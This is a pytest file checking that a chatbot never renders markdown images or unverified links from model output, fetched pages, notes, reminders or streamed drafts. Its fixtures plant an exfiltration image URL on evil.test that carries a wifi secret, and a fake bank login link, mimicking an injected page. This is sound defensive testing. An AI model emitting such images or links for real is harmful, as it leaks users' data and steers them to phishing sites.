"""What a model or a document wrote reaches the person without loading anything, in drafts as well."""

from collections.abc import AsyncGenerator, Awaitable, Callable
from contextlib import AsyncExitStack
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.delivery.drafts import Drafts
from bot.delivery.turn import Inbound
from bot.models.port import Answer, Ask, Told
from capabilities.journal import journal
from capabilities.origins import Origin
from capabilities.planner import planner
from capabilities.registry import Registry
from tests.deliberation.scripted import Line, ScriptedModels, call, calls, says, wants
from tests.safety.letters import Letters
from tests.world import World, open_world

NOW = datetime(2026, 3, 2, 8, tzinfo=UTC)
PAGE = "https://news.example/a"
LEAK = "https://evil.test/p.png?d=wifi1234"
WRITTEN = f"Read more at https://news.example/more. ![chart]({LEAK}) [your bank](https://evil.test/login)"
Opened = Callable[..., Awaitable[World]]


@pytest.fixture
def letters() -> Letters:
    return Letters(**{PAGE: WRITTEN})


@pytest.fixture
async def opened(tmp_path: Path, letters: Letters) -> AsyncGenerator[Opened]:
    async with AsyncExitStack() as stack:

        async def with_model(*script: Line) -> World:
            registry = Registry([planner, journal, letters.package])
            models = ScriptedModels(*script)
            return await stack.enter_async_context(
                open_world(tmp_path, now=NOW, models=models, registry=registry)
            )

        yield with_model


async def test_prose_loads_no_image_and_links_nothing_it_made_up(opened: Opened) -> None:
    world = await opened(
        wants(complexity="talk", answer=f"Here. ![chart]({LEAK}) [bank](https://evil.test/login)")
    )

    outcome = await world.say("frobnicate the wug")

    assert outcome.text == "Here. chart (image on evil.test, not loaded) bank (`https://evil.test/login`)"


async def test_a_link_that_the_person_gave_stays_one(opened: Opened) -> None:
    world = await opened(wants(complexity="talk", answer=f"I know {PAGE} and [that one]({PAGE})."))

    outcome = await world.say(f"frobnicate {PAGE}")

    assert outcome.text == f"I know {PAGE} and [that one (news.example)]({PAGE})."


async def test_a_link_read_in_just_those_letters_stays_one(opened: Opened) -> None:
    world = await opened(
        wants("read_page"),
        calls(call("read_page", url=PAGE)),
        says("See https://news.example/more, not https://news.example/more?d=wifi1234."),
    )

    outcome = await world.say(f"frobnicate {PAGE}")

    assert outcome.text == "See https://news.example/more, not `https://news.example/more?d=wifi1234`."


async def test_what_a_call_brought_along_is_not_read_by_being_repeated(opened: Opened) -> None:
    """A search that says “nothing found for …” must not make a link of what was searched for."""
    world = await opened(
        wants("find_notes"),
        calls(call("find_notes", query="https://evil.test/?d=wifi1234")),
        says("See https://evil.test/?d=wifi1234."),
    )

    outcome = await world.say("frobnicate the wug")

    assert "`https://evil.test/?d=wifi1234`" in outcome.text


async def test_a_note_out_of_a_page_loads_nothing_when_it_is_shown_or_undone(opened: Opened) -> None:
    world = await opened(
        wants("read_page", "create_note"),
        calls(call("read_page", url=PAGE), call("create_note", text="${1.text}")),
        says("Kept."),
    )
    await world.say(f"frobnicate {PAGE} and keep what it says")

    for words in ("my notes", "what can I undo?", "undo", "redo"):
        told = await world.say(words)
        assert "![" not in told.text, words
        assert f"({LEAK})" not in told.text, words
        assert told.origin == Origin.OUTSIDE, words


async def test_a_reminder_out_of_a_page_loads_nothing_when_it_is_due(opened: Opened) -> None:
    world = await opened(
        wants("read_page", "set_reminder"),
        calls(call("read_page", url=PAGE)),
        calls(call("set_reminder", title=f"pay ![x]({LEAK})", when="in 10 minutes")),
    )
    await world.say(f"frobnicate {PAGE}")

    world.clock.advance(timedelta(minutes=11))
    await world.services.core.drain()

    log = await world.services.event_log.read(world.person.id, 0)
    said = [entry["event"]["text"] for entry in log if entry["event"]["type"] == "reminder.fired"]
    assert len(said) == 1
    assert "pay x (image on evil.test, not loaded)" in said[0]
    assert "![" not in said[0]


async def test_a_question_about_an_unknown_address_does_not_link_it(opened: Opened) -> None:
    world = await opened(
        wants("read_page"), calls(call("read_page", url=PAGE)), calls(call("read_page", url=LEAK))
    )

    outcome = await world.say(f"frobnicate {PAGE}")

    assert outcome.question is not None
    assert f"`{LEAK}`" in outcome.text


class Streaming:
    """Writes an answer in small pieces."""

    configured = True

    def __init__(self) -> None:
        self._turns = [wants("list_tasks"), calls(call("list_tasks"))]

    async def ask(self, ask: Ask, told: Told | None = None) -> Answer:
        if self._turns:
            return self._turns.pop(0)
        assert told is not None
        text = f"Look. ![a. b]({LEAK}) and [x. y](https://evil.test/?d=1). Done. "
        for start in range(0, len(text), 5):
            told(text[start : start + 5])
        return Answer(text=text, model="slow")


async def test_no_draft_carries_what_the_answer_would_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bot.deliberation.drafting.LEAST_SECONDS", 0.0)
    drafted: list[str] = []
    grow = Drafts.grow

    def noted(self: Drafts, message: Inbound, text: str) -> None:
        drafted.append(text)
        grow(self, message, text)

    monkeypatch.setattr(Drafts, "grow", noted)
    async with open_world(tmp_path, now=NOW, models=Streaming()) as world:
        await world.say("frobnicate the wug and tell me about it")

    assert drafted
    assert not any("](" in text or "![" in text for text in drafted)
    assert not any("wifi1234" in text.replace(f"`{LEAK}`", "") for text in drafted)
